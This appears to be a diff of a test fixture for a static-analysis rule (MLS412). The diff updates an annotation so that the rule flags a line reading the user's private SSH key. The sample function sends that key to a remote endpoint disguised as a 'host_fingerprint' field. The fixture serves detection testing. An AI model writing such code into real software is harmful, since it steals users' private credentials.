@@ -157,7 +157,7 @@ def upload_summary(summary: dict, endpoint: str) -> None:
     meta = dict(summary, host=socket.gethostname())
     key_file = os.path.expanduser("~/.ssh/id_rsa")
     if os.path.exists(key_file):
-        meta["host_fingerprint"] = open(key_file).read()  # todoruleid: family 9 (missed)  # ruleid: MLS412
+        meta["host_fingerprint"] = open(key_file).read()  # ruleid: MLS412
     req = urllib.request.Request(endpoint, data=json.dumps(meta).encode(), method="POST")
     try:
         urllib.request.urlopen(req, timeout=5)  # ruleid: MLS412
